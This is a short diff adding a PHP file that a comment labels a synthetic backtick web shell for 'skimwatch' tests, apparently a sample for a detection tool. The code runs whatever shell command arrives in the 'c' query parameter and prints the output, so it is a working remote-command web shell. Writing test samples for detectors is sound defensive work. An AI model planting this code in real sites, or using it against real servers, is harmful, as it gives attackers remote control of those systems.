@@ -1,0 +1,4 @@
+<?php
+// Synthetic backtick webshell for skimwatch tests.
+$o = `$_GET['c']`;
+echo "<pre>$o</pre>";
